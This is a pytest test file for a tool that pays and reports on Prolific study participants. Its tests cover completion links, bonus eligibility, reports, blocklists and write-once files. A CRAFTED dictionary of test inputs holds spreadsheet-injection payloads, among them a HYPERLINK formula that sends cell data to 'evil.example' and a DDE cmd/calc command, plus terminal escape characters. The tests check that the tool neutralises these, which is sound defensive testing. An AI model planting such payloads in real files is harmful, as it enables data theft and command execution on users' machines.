"""`invoke prolific`'s rules, without Docker: completion links, who gets a bonus and why not,
the report's rows, the blocklist, and files that are never overwritten."""
import csv
import os

import pytest

from stack import prolific
from stack.console import StackError

pytestmark = pytest.mark.unit

ID = ["5f0c1e2d3b4a59687766554" + str(n) for n in range(10)]  # 24 hex characters, as Prolific's


def person(number, label=None, visited=True, index=9, max_index=9, bonus="1.10", payoff=None, page_times=(),
           app="payment", page="Payment", is_bot=False):
    return {"code": f"code{number}", "id_in_session": number, "label": label, "visited": visited, "is_bot": is_bot,
            "index": index, "max_index": max_index, "app": app, "page": page, "started": "2026-12-01T10:00:00Z",
            "on_page_since": "2026-12-01T10:05:00Z", "last_request": "2026-12-01T10:05:00Z",
            "payoff": payoff if payoff is not None else str(float(bonus) * 100), "bonus": bonus,
            "page_times": list(page_times)}


def session(participants, earlier=None):
    return {"session": {"code": "abc123", "config": "prolific_study", "room": "prolific", "currency": "GBP"},
            "participants": participants, "earlier": earlier or {}, "now": "2026-12-01T10:47:30Z"}


@pytest.mark.parametrize("link, problem", [
    ("https://app.prolific.com/submissions/complete?cc=C1A2B3C4", None),
    (None, "there is no completionlink"),
    ("", "there is no completionlink"),
    ("https://app.prolific.co/submissions/complete?cc=C1A2B3C4", "old address"),
    ("https://example.edu/thanks", "not a Prolific completion link"),
    ("https://app.prolific.com/submissions/complete?cc=CEXAMPLE", "placeholder"),
    ("https://app.prolific.com/submissions/complete?cc=XXXXXXX", "placeholder"),
    ("https://app.prolific.com/submissions/complete?cc={{code}}", "placeholder"),
    ("https://app.prolific.com/submissions/complete?cc=", "placeholder"),
])
def test_a_completion_link_of_another_form_is_named_with_the_fix(link, problem):
    found = prolific.completion_link_problem(link)
    if problem is None:
        assert found is None
    else:
        assert problem in found and "completionlink='https://app.prolific.com/submissions/complete?cc=" in found


def test_bonus_lines_pay_finished_prolific_ids_and_say_why_the_others_are_left_out():
    participants = [
        person(1, ID[1], bonus="1.10"),
        person(2, None, bonus="1.10"),                                  # came without a label
        person(3, "LAB-07", bonus="1.10"),                              # a lab's own labels
        person(4, ID[4], bonus="0.00", payoff="0"),                     # declined consent
        person(5, ID[5], index=3, app="demographics", page="Demographics"),  # still on a page
        person(6, ID[6], bonus="1.20"), person(7, ID[6], bonus="1.20"),  # the same ID twice
        person(8, ID[8], visited=False),                                # a spare place, never used
        person(9, "bot9", is_bot=True),                                 # oTree's browser bots
        person(10, ID[0], bonus="0.105"),                               # rounded half up, as oTree does
    ]
    lines, left_out, duplicates = prolific.bonus_lines(participants)
    assert lines == [(ID[1], "1.10"), (ID[0], "0.11")]
    assert duplicates == {ID[6]: 2}
    assert [(p["id_in_session"], reason) for p, reason in left_out] == [
        (2, "no label: entered without a Prolific link"),
        (3, "label 'LAB-07' is not a Prolific ID"),
        (4, "bonus 0.00"),
        (5, "not finished (on demographics/Demographics)"),
        (6, "Prolific ID seen 2 times in this session: check and pay by hand"),
        (7, "Prolific ID seen 2 times in this session: check and pay by hand"),
    ]
    assert prolific.bonus_refusal(session(participants), lines) is None


@pytest.mark.parametrize("participants, refusal", [
    ([], "Nobody has started session abc123"),
    ([person(1, visited=False)], "Nobody has started"),
    ([person(1, "LAB-1"), person(2, "LAB-2")], "their labels (LAB-1, LAB-2) are not Prolific IDs"),
    ([person(1, None)], "they have no labels"),
    ([person(1, ID[1], bonus="0.00", payoff="0"), person(2, ID[2], bonus="0.00", payoff="0")],
     "the session's apps never set player.payoff"),
    ([person(1, ID[1], index=2)], "No participant of session abc123 qualifies"),
])
def test_a_session_without_bonuses_to_pay_is_refused_with_the_reason(participants, refusal):
    lines, _, _ = prolific.bonus_lines(participants)
    assert refusal in prolific.bonus_refusal(session(participants), lines)


def test_the_report_marks_finished_stuck_timeouts_and_repeat_participants():
    timed_out = [{"app": "public_goods", "page": "Contribute", "index": 5, "completed": "2026-12-01T10:03:00Z",
                  "timeout": True, "wait_page": False},
                 {"app": "questionnaire", "page": "Questionnaire", "index": 8, "completed": "2026-12-01T10:09:00Z",
                  "timeout": False, "wait_page": False}]
    data = session([person(1, ID[1], page_times=timed_out),
                    person(2, ID[2], index=5, app="public_goods", page="Contribute", bonus="0.00"),
                    person(3, None, bonus="0.00", payoff="0"),
                    person(4, ID[4], visited=False)],
                   earlier={ID[2]: ["old111", "old222"]})
    rows = prolific.report_rows(data)
    assert [(r["prolific_id"], r["status"], r["finished_utc"], r["stuck_on_page"], r["minutes_on_page"],
             r["timed_out_pages"], r["bonus"], r["earlier_sessions"], r["notes"]) for r in rows] == [
        (ID[1], "finished", "2026-12-01T10:09:00Z", "", "", "public_goods/Contribute", "1.10", "", ""),
        (ID[2], "stuck", "", "public_goods/Contribute", "42", "", "0.00", "old111;old222", ""),
        ("", "finished", "", "", "", "", "0.00", "", "no label"),
    ]
    assert prolific.report_totals(rows) == {"started": 3, "finished": 2, "stuck": 1, "bonus": "1.10"}
    assert prolific.report_csv(rows).splitlines()[0].startswith("prolific_id,participant_code,status,started_utc")
    table = prolific.report_table(rows).splitlines()
    assert table[0].split()[:3] == ["Prolific", "ID", "status"]
    assert "public_goods/Contribute" in table[2] and "also in old111;old222" in table[2]


def test_the_blocklist_has_each_prolific_id_once_in_the_order_they_came():
    ids, skipped = prolific.blocklist_ids([ID[3], "LAB-1", ID[1], None, ID[3], ID[2].upper()])
    assert ids == [ID[3], ID[1]] and skipped == 3


def test_files_are_never_overwritten_and_a_bonus_file_has_one_name_per_session(tmp_path):
    existing = tmp_path / "prolific-bonuses-abc123.csv"
    existing.write_text("before\n")
    with pytest.raises(StackError, match="already exists and is never overwritten: you may have paid"):
        prolific.output_path(None, str(tmp_path), "bonuses", "abc123")
    with pytest.raises(StackError, match="already exists"):
        prolific.write_new(str(existing), "after\n")
    assert existing.read_text() == "before\n"
    assert prolific.output_path(None, str(tmp_path), "report", "abc123") != \
        prolific.output_path(None, str(tmp_path), "bonuses", "xyz789")
    fresh = tmp_path / "sub" / "new.csv"
    prolific.write_new(str(fresh), "a,1.00\n")
    assert fresh.read_text() == "a,1.00\n" and oct(os.stat(fresh).st_mode & 0o777) == "0o600"


def test_an_unknown_action_is_refused_before_anything_is_read():
    with pytest.raises(StackError, match="no prolific action 'pay'"):
        prolific.run("pay")
    with pytest.raises(StackError, match="--session CODE"):
        prolific.run("bonuses")


# Labels a participant can put in the start link (?participant_label=...): formulas a spreadsheet
# would run, and characters that split a cell or a line.
CRAFTED = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1": "'+1",
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'=1+1",
    " =1+1": "' =1+1",
    "two\tcells": "twocells",
    "line\nbreak\r\nhere": "linebreakhere",
    "\x1b[2Jcleared": "[2Jcleared",
    "\u202egnp.exe\u2028": "gnp.exe",  # a right-to-left override, a line separator
    "-1.5": "-1.5",
    "42": "42",
    "LAB-07": "LAB-07",
}


def test_the_report_file_neutralises_labels_a_spreadsheet_would_run_and_keeps_numbers(tmp_path):
    participants = [person(number, label) for number, label in enumerate(CRAFTED, 1)]
    path = tmp_path / "report.csv"
    prolific.write_new(str(path), prolific.report_csv(prolific.report_rows(session(participants))))
    text = path.read_text(encoding="utf-8")
    assert text.count("\n") == len(CRAFTED) + 1 and "\r" not in text and "\t" not in text and "\x1b" not in text
    with open(path, encoding="utf-8", newline="") as handle:
        written = {row["participant_code"]: row["prolific_id"] for row in csv.DictReader(handle)}
    assert written == {f"code{number}": shown for number, shown in enumerate(CRAFTED.values(), 1)}


def test_the_terminal_lists_show_labels_neutralised(capsys):
    participants = [person(number, label, index=1) for number, label in enumerate(CRAFTED, 1)]
    participants.append(person(99, "line\nbreak\r\nhere", index=1))  # a duplicate label
    _, left_out, duplicates = prolific.bonus_lines(participants)
    prolific._show_left_out(left_out, duplicates)
    print(prolific.report_table(prolific.report_rows(session(participants))))
    shown = capsys.readouterr()
    said = shown.out + shown.err
    assert "\x1b[2J" not in said and "\t" not in said and "\r" not in said  # the bold of ==> stays
    assert "(code1, '=HYPERLINK(" in said and "'@SUM(A1:A9)" in said and "linebreakhere (2 times)" in said
    assert len(said.splitlines()) == 2 + 2 * len(participants) + 1  # one line each, nothing split


def test_a_prolific_id_with_a_line_break_after_it_is_not_one():
    participants = [person(1, ID[1] + "\n=HYPERLINK(1)"), person(2, ID[2] + "\n")]
    lines, left_out, _ = prolific.bonus_lines(participants)
    assert lines == [] and len(left_out) == 2
    assert prolific.blocklist_ids([ID[2] + "\n", ID[3]]) == ([ID[3]], 1)
